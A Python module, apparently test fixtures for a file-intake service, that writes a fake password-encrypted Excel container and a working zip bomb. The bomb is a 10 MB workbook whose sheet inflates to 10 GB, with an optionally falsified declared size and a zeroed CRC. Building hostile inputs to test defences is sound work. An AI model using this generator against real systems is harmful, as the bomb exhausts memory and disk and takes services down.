"""Files that no office should have to receive, each made the way it happens."""

import struct
import zipfile
import zlib
from pathlib import Path

_SECTOR, _FREE, _END, _OF_FAT = 512, 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
_STREAM = 4096  # the smallest size that has sectors of its own
_BLOCK, _BOMB = 16 << 20, 10 << 30


def _entry(name: str, kind: int, start: int, size: int, child: int, right: int) -> bytes:
    coded = (name + "\0").encode("utf-16-le") if name else b""
    head = struct.pack("<64sHBB", coded, len(coded), kind, 1)
    links = struct.pack("<III", _FREE, right, child)
    return head + links + bytes(16 + 4 + 16) + struct.pack("<IQ", start, size)


def encrypted_workbook(path: Path, content: bytes) -> Path:
    """What Excel writes when a workbook is saved with a password: two streams in a container."""
    streams = []
    for words in (b"\x04\0\x04\0" + b'<encryption xmlns="http://schemas.microsoft.com/office/2006/'
                  b'encryption"/>', content):  # fmt: skip
        streams.append(words + bytes(-len(words) % _SECTOR or 0))
        streams[-1] += bytes(max(0, _STREAM - len(streams[-1])))
    counts = [len(stream) // _SECTOR for stream in streams]
    assert 2 + sum(counts) <= _SECTOR // 4, "one sector of table holds no more"
    table, starts, at = [_OF_FAT, _END], [], 2
    for count in counts:
        starts.append(at)
        table += [*range(at + 1, at + count), _END]
        at += count
    table += [_FREE] * (_SECTOR // 4 - len(table))
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6xIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1)
    header += struct.pack("<IIIIII", 0, _STREAM, _END, 0, _END, 0)
    header += struct.pack("<109I", 0, *[_FREE] * 108)
    sizes = [len(stream) for stream in streams]
    directory = _entry("Root Entry", 5, _END, 0, 1, _FREE)
    directory += _entry("EncryptionInfo", 2, starts[0], sizes[0], _FREE, 2)
    directory += _entry("EncryptedPackage", 2, starts[1], sizes[1], _FREE, _FREE)
    directory += _entry("", 0, 0, 0, _FREE, _FREE)
    path.write_bytes(
        header + struct.pack(f"<{_SECTOR // 4}I", *table) + directory + b"".join(streams)
    )
    return path


def zip_bomb(path: Path, like: Path, claims: int | None = None) -> Path:
    """A workbook of ten megabytes whose first sheet unpacks to ten gigabytes of nothing.

    `claims` is the size its directory gives for the sheet; the true one if not given.
    """
    press = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # A fully flushed block stands for itself and can be repeated without pressing it again.
    block = press.compress(bytes(_BLOCK)) + press.flush(zlib.Z_FULL_FLUSH)
    blocks, end = _BOMB // _BLOCK, b"\x03\x00"
    part = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
    part.compress_type = zipfile.ZIP_DEFLATED
    part.file_size = _BOMB if claims is None else claims
    part.CRC = 0  # nobody may come far enough to check it
    part.compress_size = blocks * len(block) + len(end)
    with zipfile.ZipFile(like) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            if name != part.filename:
                new.writestr(name, old.read(name), zipfile.ZIP_DEFLATED)
        file = new.fp
        assert file is not None
        part.header_offset = new.start_dir
        file.seek(new.start_dir)
        file.write(part.FileHeader(zip64=True))
        for _ in range(blocks):
            file.write(block)
        file.write(end)
        new.start_dir = file.tell()
        new.filelist.append(part)
        new.NameToInfo[part.filename] = part
    return path
